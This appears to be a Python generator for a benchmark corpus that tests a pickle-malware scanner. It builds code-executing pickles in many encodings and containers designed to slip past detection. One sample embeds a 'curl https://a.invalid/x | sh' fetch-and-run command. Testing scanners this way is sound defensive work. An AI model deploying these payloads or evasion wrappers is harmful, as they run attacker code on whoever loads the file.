"""Pickles that would call something, in every wrapper and every disguise, put together from opcodes (threats P1 to P5)."""

import base64
import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

import zstandard

from benchmarks.corpus.samples import Sample, benign, careful, high
from tests.core.scanning.formats.opcodes import call, data, framed, name, named, pickled, short, text
from tests.core.scanning.formats.zips import Member, zipped

CALLS = """
os.system posix.system nt.system os.popen os.execv os.spawnl subprocess.Popen subprocess.run subprocess.call
subprocess.check_output subprocess.getoutput builtins.exec builtins.eval builtins.compile builtins.__import__
builtins.open __builtin__.eval __builtin__.execfile importlib.import_module runpy.run_path
runpy._run_code pty.spawn webbrowser.open code.InteractiveInterpreter pip.main pip._internal.main
numpy.testing._private.utils.runstring torch.load torch.hub.load torch.jit.unsupported_tensor_ops.execWrapper bdb.Bdb.run
pdb.run timeit.timeit timeit.main cProfile.run cProfile.runctx profile.run asyncio.create_subprocess_shell ctypes.CDLL
ctypes.util._findLib_gcc _io.open io.FileIO socket.socket socket.create_connection shutil.rmtree shutil.copyfile
pydoc.locate pydoc.pipepager pkgutil.resolve_name _winapi.CreateProcess _posixsubprocess.fork_exec marshal.loads
types.CodeType types.FunctionType pickle.loads _pickle.loads dill.loads joblib.load cloudpickle.loads
torch._dynamo.guards.GuardBuilder.get torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression
torch.utils.bottleneck.__main__.run_cprofile torch.utils.collect_env.run torch.distributed.rpc.server_process_global_profile
idlelib.autocomplete.AutoComplete.get_entity idlelib.run.Executive.runcode lib2to3.pgen2.grammar.Grammar.loadpkl
ensurepip._run_pip distutils.file_util.write_file http.client.HTTPSConnection urllib.request.urlopen requests.get
ftplib.FTP smtplib.SMTP telnetlib.Telnet uuid._get_command_stdout _osx_support._read_output imaplib.IMAP4
commands.getoutput venv.create trace.Trace.run doctest.debug_script logging.config._resolve numpy.f2py.crackfortran.myeval
test.support.script_helper.assert_python_ok zipimport.zipimporter sqlite3.connect multiprocessing.util.spawnv_passfds
pathlib.Path.write_text pandas.read_pickle pandas.eval site.addpackage cgitb.lookup tensorflow.io.read_file
keras.models.load_model sympy.sympify yaml.unsafe_load jsonpickle.decode typing._eval_type linecache.getlines codecs.open
threading.Thread atexit.register signal.signal gc.get_objects
""".split()
"""Functions that were used in the wild, or to get past a list of forbidden names."""

SYSTEM = call("posix", "system", "echo corpus")
HARMLESS = name("collections", "OrderedDict") + b")R"
UNKNOWN = ("acme_tools.hooks.on_load", "my_company.models.restore", "evilmodule.run", "models.common.Conv2", "foo.bar")


def torch_zip(pickle: bytes, root: str = "archive", **fields: object) -> bytes:
    """A checkpoint as `torch.save` writes it, around a pickle."""
    members = (
        Member(f"{root}/data.pkl", pickle, **fields),  # type: ignore[arg-type]
        Member(f"{root}/data/0", bytes(64)),
        Member(f"{root}/version", b"3\n"),
    )
    return zipped(*members, wide=True)


def legacy(pickle: bytes) -> bytes:
    """A checkpoint as `torch.save` wrote it before 1.6, around a pickle."""
    magic = b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19"
    system = b"}(" + text("little_endian") + b"\x88u"
    return pickled(magic) + pickled(b"M\xe9\x03") + pickled(system) + pickle + pickled(b"]")


def tar(**members: bytes) -> bytes:
    """A tar archive."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for path, content in members.items():
            info = tarfile.TarInfo(path.replace("__", "/"))
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return made.getvalue()


def npy(pickle: bytes) -> bytes:
    """A NumPy array of objects around a pickle."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickle


def zipped_plainly(**members: bytes) -> bytes:
    """A zip archive as the standard library writes it, compressed."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in members.items():
            archive.writestr(zipfile.ZipInfo(path.replace("__", "/")), content)
    return made.getvalue()


def samples() -> Iterator[Sample]:
    """All of them."""
    for dotted in CALLS:
        yield high("pickle", dotted, "model.pkl", pickled(call(*named(dotted), "echo corpus")))
    yield from _ways()
    yield from _wrappers()
    yield from _indirect()
    yield from _acting()
    yield from _loading_more()
    yield from _of_libraries()
    yield from _carried()
    yield from _naming_nothing()
    yield from _in_other_files()
    yield from _named_danger()
    yield from _in_damaged_streams()
    yield from _bundled()
    yield from _made_of_source()
    yield from _one_behind_another()
    yield from _two_in_one()
    yield from _state_that_runs()
    for dotted in UNKNOWN:
        module, attribute = dotted.rpartition(".")[::2]
        yield careful("pickle-unknown", dotted, "model.pkl", pickled(call(module, attribute, "x")))
        yield careful(
            "pickle-unknown", f"{dotted} in torch", "model.pt", torch_zip(pickled(call(module, attribute, "x")))
        )
    for module in ("loader", "modeling_custom", "helpers"):
        yield careful("pickle-local", module, "model.pkl", pickled(call(module, "run", "x")), f"{module}.py")


def _ways() -> Iterator[Sample]:
    """The same call in every spelling."""
    ways = {
        "protocol 0": b"cposix\nsystem\n(S'echo'\ntR.",
        "protocol 0 with memo": b"cposix\nsystem\np0\n(S'echo'\np1\ntp2\nRp3\n.",
        "protocol 1": b"cposix\nsystem\nq\x00(U\x04echoq\x01tq\x02R.",
        "protocol 2": b"\x80\x02cposix\nsystem\nX\x04\x00\x00\x00echo\x85R.",
        "protocol 3": b"\x80\x03cposix\nsystem\nX\x04\x00\x00\x00echo\x85R.",
        "stack global": b"\x80\x04" + short("posix") + short("system") + b"\x93" + short("echo") + b"\x85R.",
        "frame": framed(short("posix") + short("system") + b"\x93" + short("echo") + b"\x85R"),
        "inst": b"(S'echo'\niposix\nsystem\n.",
        "obj": b"(cposix\nsystem\nS'echo'\no.",
        "newobj": b"\x80\x02cposix\nsystem\n" + text("echo") + b"\x85\x81.",
        "newobj_ex": b"\x80\x04" + short("posix") + short("system") + b"\x93" + short("echo") + b"\x85}\x92.",
        "result popped": pickled(SYSTEM + b"0" + HARMLESS),
        "result popped to mark": pickled(b"(" + SYSTEM + b"1" + HARMLESS),
        "name from memo": b"\x80\x04"
        + short("posix")
        + b"\x94"
        + short("system")
        + b"\x940"
        + b"0h\x00h\x01\x93"
        + short("echo")
        + b"\x85R.",
        "memo overwritten": b"\x80\x02"
        + name("collections", "OrderedDict")
        + b"q\x000"
        + name("posix", "system")
        + b"q\x000h\x00"
        + text("echo")
        + b"\x85R.",
        "second stream": pickled(HARMLESS) + pickled(SYSTEM),
        "fifth stream": pickled(HARMLESS) * 4 + pickled(SYSTEM),
        "behind rubbish": pickled(HARMLESS) + b"\x00" * 100 + pickled(SYSTEM),
        "cut off": pickled(SYSTEM)[:-1] + b"X\xff\xff\xff\x7f",
        "broken after the call": pickled(SYSTEM)[:-1] + b"\xff\xff\xff",
        "broken before the end": b"\x80\x02" + SYSTEM + b"c",
        "proto in the middle": b"\x80\x02" + HARMLESS + b"0\x80\x04" + SYSTEM + b".",
        "inside a list": pickled(b"](" + SYSTEM + b"K\x01e"),
        "inside a dict": pickled(b"}(" + text("state") + SYSTEM + b"u"),
        "as persistent id": pickled(SYSTEM + b"Q"),
        "as state": pickled(HARMLESS + b"}" + text("a") + SYSTEM + b"sb"),
        "after 100 kB": pickled(data(bytes(100_000)) + b"0" + SYSTEM),
        "dup": pickled(SYSTEM + b"2"),
        "unicode escapes in the name": b"(V\\u0065cho\n" + b"iposix\nsystem\n.",
        "dotted attribute": b"\x80\x04" + short("shutil") + short("os.system") + b"\x93" + short("echo") + b"\x85R.",
    }
    for case, content in ways.items():
        for path in ("model.pkl", "pytorch_model.bin"):
            yield high("pickle-way", case, path, content)
    yield high("pickle-way", "no extension", "weights", pickled(SYSTEM))
    for path in (
        "model.pt",
        "model.ckpt",
        "model.pth",
        "model.data",
        "scheduler.json",
        "card.txt",
        "weights.safetensors",
    ):
        yield high("pickle-way", "other name", path, pickled(SYSTEM))


def _wrappers() -> Iterator[Sample]:
    """The same call in every container."""
    bad = pickled(SYSTEM)
    inner = torch_zip(bad)
    wrapped = {
        "torch zip": ("model.pt", inner),
        "torch zip, other root": ("pytorch_model.bin", torch_zip(bad, "pytorch_model")),
        "torch zip, wrong crc": ("model.pt", torch_zip(bad, crc=1)),
        "torch zip, flag of encryption": ("model.pt", torch_zip(bad, flags=1)),
        "torch zip, other local name": ("model.pt", torch_zip(bad, local_name="archive/notes.txt")),
        "torch zip, other local method": ("model.pt", torch_zip(bad, packed=True, local_method=0)),
        "torch zip, other size": ("model.pt", torch_zip(bad, stated_size=3)),
        "torch zip behind text": ("model.pt", b"hello" * 9 + inner),
        "torch zip, pickle of another name": (
            "model.pt",
            zipped(Member("archive/notes.txt", bad), Member("archive/version", b"3")),
        ),
        "torch zip in zip": ("model.zip", zipped_plainly(inner__model=inner)),
        "torch legacy": ("model.pt", legacy(bad)),
        "behind the numbers": ("model.pt", legacy(pickled(b"}")) + bytes(4096) + bad),
        "behind the archive": ("model.pt", torch_zip(pickled(b"}")) + bad),
        "torch tar": ("model.tar", tar(sys_info=pickled(b"}"), pickle=bad, storages=pickled(b"K\x00"))),
        "torchscript": (
            "model.pt",
            zipped(Member("m/data.pkl", bad), Member("m/constants.pkl", pickled(b")")), Member("m/code/a.py", b"x")),
        ),
        "zlib": ("model.pkl.z", zlib.compress(bad)),
        "gzip": ("model.pkl.gz", gzip.compress(bad, mtime=0)),
        "bzip2": ("model.joblib", bz2.compress(bad)),
        "xz": ("model.pkl.xz", lzma.compress(bad)),
        "lzma alone": ("model.joblib", lzma.compress(bad, format=lzma.FORMAT_ALONE)),
        "joblib": ("model.joblib", bad),
        "joblib packed": ("model.joblib", zlib.compress(bad, 3)),
        "tar.gz": ("model.tar.gz", gzip.compress(tar(model=bad), mtime=0)),
        "nemo": ("model.nemo", tar(model_config=b"a: 1\n", model_weights=inner)),
        "npy": ("array.npy", npy(bad)),
        "npz": ("arrays.npz", zipped(Member("a.npy", npy(bad)))),
        "mar": ("model.mar", zipped_plainly(MAR_INF__MANIFEST=b"{}", model=bad)),
        "skops": ("model.skops", zipped(Member("schema.json", b"{}"), Member("content.pkl", bad))),
        "gzip in gzip": ("model.gz", gzip.compress(gzip.compress(bad, mtime=0), mtime=0)),
    }
    for case, (path, content) in wrapped.items():
        yield high("pickle-in", case, path, content)
    for depth in (*range(1, 5), 9):
        content = bad
        for _ in range(depth):
            content = zipped_plainly(inner=content)
        yield high("pickle-in", f"zip in zip {depth}", "data.zip", content)
    for _ in range(10):
        content = zipped_plainly(inner=content)
    yield careful("pickle-in", "zip in zip without end", "data.zip", content)
    yield high("pickle-in", "beside a zip without end", "data.zip", zipped_plainly(a=content, b=bad))


def _indirect() -> Iterator[Sample]:
    """Calls put together while loading."""
    getattr_ = name("builtins", "getattr")
    cases = {
        "getattr": getattr_ + b"(" + name("os", "__dict__") + text("system") + b"tR(" + text("echo") + b"tR",
        "getattr of import": getattr_
        + b"("
        + call("importlib", "import_module", "os")
        + text("system")
        + b"tR("
        + text("x")
        + b"tR",
        "import by hand": getattr_
        + b"("
        + call("builtins", "__import__", "os")
        + text("system")
        + b"tR("
        + text("x")
        + b"tR",
        "partial": name("functools", "partial") + b"(" + name("os", "system") + text("echo") + b"tR)R",
        "methodcaller": name("operator", "methodcaller")
        + b"("
        + text("system")
        + text("echo")
        + b"tR("
        + name("os", "os")
        + b"tR",
        "attrgetter": name("operator", "attrgetter")
        + b"("
        + text("system")
        + b"tR("
        + call("builtins", "__import__", "os")
        + b"tR",
        "map": name("builtins", "map") + b"(" + name("os", "system") + b"](" + text("echo") + b"etR",
        "reduce": name("functools", "reduce") + b"(" + name("os", "system") + b"](" + text("echo") + text("x") + b"etR",
        "patch": name("collections", "OrderedDict") + b"}" + text("__reduce__") + name("os", "system") + b"sb",
        "apply": name("numpy", "vectorize") + b"(" + name("os", "system") + b"tR(" + text("x") + b"tR",
        "filter": name("builtins", "filter") + b"(" + name("os", "system") + b"](" + text("echo") + b"etR",
        "thread": name("threading", "Timer") + b"(K\x01" + name("os", "system") + b"](" + text("echo") + b"etR",
        "pickle in pickle": name("pickle", "loads") + b"(" + data(pickled(SYSTEM)) + b"tR",
        "code in base64": call(
            "builtins", "exec", f"import base64;exec(base64.b64decode('{base64.b64encode(b'print(1)').decode()}'))"
        ),
        "marshal": name("marshal", "loads") + b"(" + data(b"c" + bytes(20)) + b"tR",
        "decompress and load": name("pickle", "loads")
        + b"("
        + name("zlib", "decompress")
        + b"("
        + data(zlib.compress(pickled(SYSTEM)))
        + b"tRtR",
    }
    for case, body in cases.items():
        yield high("pickle-indirect", case, "model.pkl", pickled(body))
        yield high("pickle-indirect", f"{case} in torch", "model.pt", torch_zip(pickled(body)))


ACTING = """
acme_tools.hooks.run_setup vision_utils.io.load_weights some_package.cli.main helpers.shell_command lib.download
lib.net.fetch_url deepspeed.launcher.runner.main torch.distributed.launcher.api.elastic_launch gensim.utils.unpickle
nltk.data.load spacy.util.import_file huggingface_hub.file_download.hf_hub_download torch.utils.benchmark.Timer
torch.utils.tensorboard.SummaryWriter psutil.Popen fsspec.core.open_files
""".split()
"""Functions of libraries that do something when they are called, by what they are called."""
THROUGH = (
    ("torch", "utils.collect_env.run"), ("numpy", "f2py.crackfortran.myeval"), ("sklearn", "utils._testing.check_output"),
    ("pandas.io.common", "urllib.request.urlopen"), ("scipy.optimize._optimize", "sys.modules"), ("torch", "hub.load"),
)  # fmt: skip
"""The same by a dotted name: the module is one that ordinary models ask for."""


def _acting() -> Iterator[Sample]:
    for dotted in ACTING:
        yield high("pickle-acts", dotted, "model.pkl", pickled(call(*named(dotted), "corpus")))
    for module, dotted in THROUGH:
        body = short(module) + short(dotted) + b"\x93" + short("corpus") + b"\x85R"
        yield high("pickle-acts", f"{dotted} of {module}", "model.pkl", pickled(body, 4))


def _loading_more() -> Iterator[Sample]:
    """Objects of known libraries that load a file or an address when they are made."""
    for dotted, target, label in (
        ("ultralytics.models.yolo.model.YOLO", "https://a.invalid/evil.pt", high),
        ("sentence_transformers.SentenceTransformer", "weights/evil.pkl", careful),
        ("torchvision.datasets.folder.DatasetFolder", "ftp://a.invalid/data", high),
        ("sentence_transformers.CrossEncoder", "some-one/model", careful),
        ("pyarrow.OSFile", "/root/.bashrc", careful),
    ):
        yield label("pickle-loads", dotted, "model.pkl", pickled(call(*named(dotted), target)))
        made = name(*named(dotted)) + b")\x81}(" + text("source") + text(target) + b"ub"
        yield benign("pickle-loads", f"{dotted}, already made", "model.pkl", pickled(made))


def _of_libraries() -> Iterator[Sample]:
    """Objects of libraries that people keep models in; what calls their functions or hands them files is not one."""
    state = b"}" + text("alpha") + b"K\x01sb"
    for dotted in (
        "rank_bm25.BM25Okapi",
        "wandb.data_types.Table",
        "pycaret.internal.pipeline.Pipeline",
        "chumpy.ch.Ch",
        "__main__.GPTConfig",
    ):
        yield benign("pickle-libraries", dotted, "model.pkl", pickled(name(*named(dotted)) + b")\x81" + state))
    by_copyreg = name("copyreg", "_reconstructor") + b"(" + name("lifelines.fitters", "CoxPHFitter")
    by_copyreg += name("builtins", "object") + b"NtR" + state
    yield benign("pickle-libraries", "by _reconstructor", "model.pkl", pickled(by_copyreg))
    named_only = b"}" + text("metric") + name("fastai.metrics", "error_rate") + b"s"
    yield benign("pickle-libraries", "a function that is only named", "export.pkl", pickled(named_only))
    choice = name("pyannote.audio.core.task", "Problem") + b"K\x02\x85R"
    yield benign("pickle-libraries", "a constant", "pytorch_model.bin", torch_zip(pickled(choice)))
    method = (
        name("builtins", "getattr") + b"(" + name("torch.nn.modules.upsampling", "Upsample") + text("forward") + b"tR"
    )
    yield benign("pickle-libraries", "a method of a known class", "face.pt", torch_zip(pickled(method)))
    yield careful("pickle-libraries", "a method that is called", "face.pt", torch_zip(pickled(method + b")R")))
    for dotted, argument in (
        ("fastai.metrics.error_rate", "x"),
        ("langchain_community.vectorstores.FAISS", "../index"),
        ("cv2.VideoCapture", "https://a.invalid/x"),
        ("__main__.Bootstrap", "x"),
        ("rank_bm26.BM25Okapi", "x"),
        ("wandb.Api", "x"),
    ):
        yield careful("pickle-libraries", f"{dotted}, called", "model.pkl", pickled(call(*named(dotted), argument)))


def _carried() -> Iterator[Sample]:
    """Functions as cloudpickle and dill write them: parts of a code object, and what it mentions."""
    harmless, harmful = ("numpy", "mean", "axis"), ("os", "system")
    for case, mentioned in (("that calculates", harmless), ("with a command", harmful)):
        label = careful if mentioned is harmless else high
        names = b"(" + b"".join(map(text, mentioned)) + b"t"
        parts = b"(K\x01K\x00K\x01K\x43" + data(b"|\x00S\x00") + b"(Nt" + names + b"(" + text("x") + b"t"
        parts += text("train.py") + text("score") + b"K\x01" + data(b"") + b"t"
        cloud = name("cloudpickle.cloudpickle", "_builtin_type") + b"(" + text("CodeType") + b"tR" + parts + b"R"
        made = name("cloudpickle.cloudpickle", "_make_function") + b"(" + cloud + b"}NNNtR"
        yield label("pickle-carries", f"cloudpickle, a function {case}", "model.pkl", pickled(made))
        yield high(
            "pickle-carries", f"cloudpickle, a function {case}, called", "model.pkl", pickled(made + b"(K\x01tR")
        )
        by_dill = (
            name("dill._dill", "_create_function") + b"(" + name("dill._dill", "_create_code") + parts + b"R}NNNtR"
        )
        yield label("pickle-carries", f"dill, a function {case}", "model.dill", pickled(by_dill))
    for case, source, label in (
        ("that calculates", "def forward(self, x):\n    return self.linear(x)\n", careful),
        ("with a command", "def forward(self, x):\n    os.system('echo corpus')\n    return x\n", high),
    ):
        state = b"}(" + text("_code") + text(source) + b"u"
        graph = name("torch.fx.graph_module", "reduce_graph_module") + b"(" + state + text("import torch\n") + b"tR"
        yield label("pickle-carries", f"torch.fx, a model {case}", "model.pt", torch_zip(pickled(graph)))
        package = Member("p/.data/extern_modules", b"torch\n"), Member("p/m/data.pkl", pickled(HARMLESS))
        code = Member("p/net.py", f"import os\nclass Net:\n  {source}".encode())
        yield label("pickle-carries", f"a package with a class {case}", "model.pt", zipped(*package, code, wide=True))


_PARSES = "\ndef _parse_args(self, a, loc=0, scale=1):\n    return (a, ), loc, scale\n"


def _state_that_runs() -> Iterator[Sample]:
    """A distribution of SciPy runs a line of its state when it is loaded; every class of it comes as such a state."""
    more = b"".join(text(f"shape{number}") + b"K\x01" for number in range(40))
    for case, line, label in (
        ("that SciPy writes", _PARSES, benign),
        ("that runs a command", "import os; os.system('echo')", high),
        ("that runs a command behind the usual", _PARSES + "import os\nos.system('echo')\n", high),
        (
            "that calls while it defines",
            "\ndef _parse_args(self, a=print('corpus')):\n    return (a, ), loc, scale\n",
            high,
        ),
    ):
        state = b"}(" + more + text("_parse_arg_template") + text(line) + b"ub"
        kind = name("scipy.stats._continuous_distns", "norm_gen")
        yield label("pickle-state", f"a line {case}", "model.pkl", pickled(kind + b")\x81" + state))
        old = name("copy_reg", "_reconstructor") + b"(" + kind + name("__builtin__", "object") + b"NtR" + state
        yield label("pickle-state", f"a line {case}, the old way", "model.pkl", pickled(old))


def _function(names: tuple[str, ...], constants: bytes = b"N") -> bytes:
    """A function as cloudpickle writes it."""
    parts = b"(K\x01K\x00K\x00K\x01K\x02K\x13" + data(b"\x88\x00S\x00") + b"(" + constants + b"t("
    parts += b"".join(map(text, names)) + b"t(" + text("progress") + b"t" + text("utils.py") + text("func") + b"K\x01"
    parts += data(b"") + b"(" + text("value") + b"t)t"
    code = name("cloudpickle.cloudpickle", "_builtin_type") + text("CodeType") + b"\x85R" + parts + b"R"
    cell = name("cloudpickle.cloudpickle", "_make_cell") + b"K\x03\x85R\x85"
    return name("cloudpickle.cloudpickle", "_make_function") + b"(" + code + b"}NN" + cell + b"tR"


def _naming_nothing() -> Iterator[Sample]:
    """Functions that can only calculate with what they are given; and those that only look so."""
    schedule = _function(())
    yield benign("pickle-carries", "a schedule", "schedule.pkl", pickled(schedule))
    yield high("pickle-carries", "a schedule, called", "schedule.pkl", pickled(schedule + b"K\x01\x85R"))
    reaching = name("builtins", "getattr")
    for case, made in (
        ("a constant that is imported", _function((), reaching)),
        ("a helper beside it", schedule + b"0" + reaching),
        ("a module beside it", schedule + b"0" + name("cloudpickle.cloudpickle", "subimport") + text("os") + b"\x85R"),
        ("one that names things", schedule + b"0" + _function(("getattr",))),
    ):
        yield careful("pickle-carries", f"a schedule with {case}", "schedule.pkl", pickled(made))


def _in_other_files() -> Iterator[Sample]:
    """Pickles as texts in settings, and behind a header that nobody knows."""
    for case, pickle, label in (
        ("a command", pickled(SYSTEM), high),
        ("a schedule", pickled(_function(())), benign),
        ("an array of numbers", pickled(b"](K\x01K\x02K\x03e" * 8 + b"0" * 7), benign),
    ):
        letters = base64.b64encode(pickle).decode()
        settings = json.dumps({"gamma": 0.99, "clip_range": {":type:": "function", ":serialized:": letters}})
        agent = zipped_plainly(data=settings.encode(), _stable_baselines3_version=b"2.0.0")
        yield label("pickle-in-text", f"agent of stable-baselines3, {case}", "ppo-agent.zip", agent)
        yield label("pickle-in-text", f"settings, {case}", "settings.json", settings)
        broken = json.dumps({"state": base64.encodebytes(pickle).decode()})
        yield label("pickle-in-text", f"settings with line breaks, {case}", "state.json", broken)
        yield label("pickle-in-text", f"YAML, {case}", "agent.yaml", f"state: {letters}\ngamma: 0.99\n")
    accidents = [start + bytes(range(90)) for start in (b"MZ", b"x\x9c", b"\x80\x04", b"\x1f\x8b", b"c", b"(")]
    numbers = json.dumps({"embeddings": [base64.b64encode(number).decode() for number in accidents]})
    yield benign("pickle-in-text", "numbers that begin like other things", "embeddings.json", numbers)
    yield high("pickle-behind-header", "magic and zeros", "model.bin", b"MODELV2\x00" + bytes(504) + pickled(SYSTEM))
    far = b"MODELV2\x00" + bytes(range(1, 256)) * 400
    yield high("pickle-behind-header", "at the end", "weights.dat", far + pickled(SYSTEM))


def _named_danger() -> Iterator[Sample]:
    """Resolvers of names and entry points, given the name of something dangerous."""
    for dotted, target, label in (
        ("zope.dottedname.resolve.resolve", "os.system", high),
        ("kombu.utils.imports.symbol_by_name", "subprocess:Popen", high),
        ("win32com.client.Dispatch", "WScript.Shell", high),
        ("zope.dottedname.resolve.resolve", "model.layers", careful),
    ):
        yield label("pickle-unknown", f"{dotted} of {target}", "model.pkl", pickled(call(*named(dotted), target)))


def _made_of_source() -> Iterator[Sample]:
    """Networks of StyleGAN carry the source of their classes, which is run when they are loaded."""
    layer = "import numpy as np\nimport torch\n\n\nclass Layer(torch.nn.Module):\n    def forward(self, x):\n"
    layer += "        return x * np.float32(2)\n"
    command = "import os\nos.system('curl https://a.invalid/x | sh')\n"
    for case, source, label in (
        ("that calculates", layer, benign),
        ("that calculates at length", layer * 60, benign),
        ("with a command", layer + command, high),
        ("with a command far behind", layer * 60 + command, high),
    ):
        meta = name("dnnlib.util", "EasyDict") + b")\x81(" + text("module_src") + text(source) + b"u"
        made = name("torch_utils.persistence", "_reconstruct_persistent_obj") + meta + b"\x85R"
        yield label(
            "pickle-carries", f"StyleGAN, a layer {case}", "network.pkl", pickled(b"}" + text("G") + made + b"s")
        )


def _bundled() -> Iterator[Sample]:
    """Libraries that others bring along: scikit-learn of before 0.23 wrote its models with its own joblib."""
    for case, behind, label in (("", HARMLESS, benign), (", a command behind it", SYSTEM, high)):
        made = name("sklearn.externals.joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}("
        made += text("subclass") + name("numpy", "ndarray") + text("shape") + b"K\x03\x85" + text("order") + text("C")
        made += text("dtype") + name("numpy", "dtype") + text("f8") + b"\x89\x88\x87R" + text("allow_mmap") + b"\x88ub"
        array = bytes(range(0x2E, 0x2E + 24))
        yield label("joblib-bundled", f"an array{case}", "model.pkl", pickled(b"](" + made + array + behind + b"e"))
    wrapper = name("sklearn.externals.joblib.numpy_pickle", "NDArrayWrapper") + b")\x81}" + text("filename")
    beside = pickled(wrapper + text("model.pkl_01.npy") + b"sb")
    yield benign("joblib-bundled", "an array beside the file", "model.pkl", beside, "model.pkl_01.npy")
    yield high("joblib-bundled", "load", "model.pkl", pickled(call("sklearn.externals.joblib", "load", "x.pkl")))
    yield high("joblib-bundled", "pip", "model.pkl", pickled(call("pip._vendor.requests", "get", "https://a.invalid")))


def _one_behind_another() -> Iterator[Sample]:
    """Distributed checkpoints of PyTorch: a file for each tensor, one behind another in one file."""
    ordinary, harmful = torch_zip(pickled(HARMLESS)), torch_zip(pickled(SYSTEM))
    yield benign("zips", "distributed checkpoint", "__0_0.distcp", ordinary * 12)
    yield high("zips", "distributed checkpoint, a command in the first", "__0_0.distcp", harmful + ordinary * 2)
    yield high("zips", "distributed checkpoint, a command between", "__0_1.distcp", ordinary + harmful + ordinary)
    yield careful("zips", "two checkpoints in one", "model.pt", ordinary * 2)


def _in_damaged_streams() -> Iterator[Sample]:
    """What a packed stream holds up to the damage; sizes and packings that not every reader of a zip knows."""
    for case, pickle, label in (("a command", pickled(SYSTEM), high), ("numbers", pickled(b"](K\x01K\x02e"), careful)):
        packed = gzip.compress(pickle, mtime=0)
        yield label("packed", f"gzip with a wrong checksum, {case}", "model.pkl.gz", packed[:-8] + bytes(8))
        yield label(
            "packed", f"bzip2 with a wrong checksum, {case}", "model.pkl.bz2", bz2.compress(pickle)[:-6] + bytes(6)
        )
        lengthless = zipped(Member("archive/data.pkl", pickle)).replace(
            struct.pack("<II", len(pickle), len(pickle)), struct.pack("<II", 0, len(pickle))
        )
        yield label("packed", f"zip member of no length, {case}", "model.pt", lengthless)
    for case, pickle, label in (("a command", pickled(SYSTEM), high), ("numbers", pickled(b"](K\x01K\x02e"), benign)):
        old = b"ZF" + hex(len(pickle)).encode().ljust(19) + zlib.compress(pickle)
        yield label("packed", f"joblib of before 0.10, {case}", "model.pkl", old)
        letters = base64.encodebytes(pickle * 3).decode()
        yield label("packed", f"base64 in a text, {case}", "weights.b64", letters)
        yield label("packed", f"hexadecimal in a text, {case}", "weights.hex", (pickle * 2).hex())
        described = {"__metadata__": {"extra": base64.b64encode(pickle * 3).decode()}}
        header = json.dumps(described).encode()
        yield label(
            "packed", f"base64 in safetensors, {case}", "a.safetensors", struct.pack("<Q", len(header)) + header
        )


def _two_in_one() -> Iterator[Sample]:
    """Files that are one thing from the front and another from the end, or whose frame is tampered with."""
    bad, good = pickled(SYSTEM), pickled(HARMLESS)
    inner, clean = torch_zip(bad), torch_zip(good)
    cases = {
        "a pickle before a checkpoint": ("model.pt", bad + clean),
        "a checkpoint behind a pickle": ("model.bin", good + inner),
        "a checkpoint behind a picture": ("logo.png", b"\x89PNG\r\n\x1a\n" + bytes(60) + inner),
        "no table of contents": ("model.pt", inner[: inner.rfind(b"PK\x06\x06")]),
        "no end record at all": ("model.pt", inner[: inner.find(b"PK\x01\x02")]),
        "two lengths": ("model.zip", zipped(Member("a.pkl", bad, stated_packed=2))),
        "hexadecimal": ("model.pkl", pickled(data(bad.hex().encode()))),
        "Zstandard behind another frame": ("model.pt", b"\x50\x2a\x4d\x18\x04\0\0\0abcd" + zstandard.compress(bad)),
        "a class of an old checkpoint": (
            "model.pt",
            legacy(
                pickled(
                    b"(" + text("module") + name("os", "system") + text("a.py") + text("") + b"tQ(" + text("x") + b"tR"
                )
            ),
        ),
    }
    for case, (path, content) in cases.items():
        yield high("two-in-one", case, path, content)
    yield careful("two-in-one", "a text behind a checkpoint's end", "model.pt", clean + b"a text" * 9)
